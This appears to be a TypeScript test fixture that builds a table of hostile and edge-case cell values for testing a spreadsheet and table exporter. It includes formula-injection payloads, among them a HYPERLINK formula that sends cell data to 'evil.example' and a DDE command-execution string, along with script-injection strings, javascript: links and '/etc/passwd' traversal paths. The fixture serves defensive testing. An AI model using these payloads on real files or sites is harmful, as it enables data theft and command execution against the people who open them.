/** A table of what pages and people put into cells to break readers, or what breaks them by accident. */
import type { ExportTable, TableColumn, TableRecord } from '../../src/shared/domain/export-table'

const CONTROLS = Array.from({ length: 0x20 }, (_, code) => `a${String.fromCharCode(code)}b`)

const HOSTILE_TEXTS: readonly string[] = [
  ...['', ' ', ' lead and trail ', '\tlead and trail\t', '00123', '1e5', 'TRUE', 'NULL', '2024-01-01', '1/2'],
  ...['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', ' =1+1', '"=1+1"', "'=1+1", '＝1+1', '＠SUM(A1)'],
  ...['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", '-12.5', '+41 79 000 00 00', '-'],
  ...['say "hi", twice', 'a\nb', 'a\r\nb', 'a\rb', '\r\n', '"', '""', ',', ';', '\t', 'a\tb', 'a"\r\n,b', '\\', '\\N'],
  ...CONTROLS,
  ...['a\u007fb', 'a\u0085b', 'a\u009bb', 'a\u2028b', 'a\u2029b', '\ufeffa', 'a\u200bb', 'a\u202eb', 'a\u00a0'],
  ...['\ud800', 'a\udc00b', '\udc00\ud800', 'a\ufffeb', 'a\uffffb', '🕸', '👩‍👩‍👧', 'e\u0301', 'مرحبا', '日本語'],
  ...['<script>alert(1)</script>', '</t></is></c>', ']]>', '<![CDATA[', '&amp;', '&#0;', '&lt;', '<!--', '<?xml?>'],
  ...['_x0041_', '_x0000_', '_x_x0041_', '_x005F_x0041_', '_xD800_', '_x0041', '__proto__', 'constructor'],
  ...['a|b', 'a\\|b', 'a\\\\|b', '\\', 'a\\', '`code`', '*bold*', '_em_', '~~gone~~', '[a](javascript:alert(1))'],
  ...[
    '![a](http://evil.example/)',
    '<http://evil.example/>',
    'http://a.example/x_y_z|w',
    'see http://a.example/',
    'www.a.example',
    '# a',
  ],
  ...['$a$', '| --- |', 'javascript:alert(1)', 'data:text/html,<b>', 'file:///etc/passwd', '../../etc/passwd'],
  // Beyond what a cell of Excel takes, one with a surrogate pair where it is cut; a megabyte.
  ...[
    'x'.repeat(32_767),
    'x'.repeat(32_768),
    `${'x'.repeat(32_765)}🕸🕸`,
    `${'"=,\n'.repeat(100)}${'"=, '.repeat(250_000)}`,
    '€'.repeat(350_000),
  ],
]

const COLUMNS: readonly TableColumn[] = [
  { name: '=1+1', kind: 'text' },
  { name: 'a|"b",\r\n<c>', kind: 'any' },
  { name: '__proto__', kind: 'integer' },
  { name: '\ud800', kind: 'number' },
  { name: 'flag', kind: 'flag' },
  { name: 'time', kind: 'time' },
]

const ANY: TableRecord = [null, 12_345_678_901_234_567_890n, -7n, 1.5, Uint8Array.of(0, 255), '=1+1']
const INTEGERS = [0, -1, 200, Number.MAX_SAFE_INTEGER, Number.MIN_SAFE_INTEGER, null]
const NUMBERS = [0, -0.5, 1e300, 5e-324, 0.1, null]
const FLAGS = [0, 1, null]
/** Beyond the calendars of spreadsheets on both sides. */
const TIMES = [0, 1_700_000_000_123, 1_000, null, -3_000_000_000_000, 300_000_000_000_000]

export const HOSTILE_RECORDS: readonly TableRecord[] = HOSTILE_TEXTS.map((text, index) => [
  text,
  ...[ANY, INTEGERS, NUMBERS, FLAGS, TIMES].map((values) => values[index % values.length] ?? null),
])

/** Records in blocks of different sizes, an empty one among them. */
export function tableOf(columns: readonly TableColumn[], records: readonly TableRecord[]): ExportTable {
  return {
    columns,
    total: records.length,
    *blocks() {
      yield records.slice(0, 1)
      yield []
      yield records.slice(1)
    },
  }
}

export function hostileTable(): ExportTable {
  return tableOf(COLUMNS, HOSTILE_RECORDS)
}
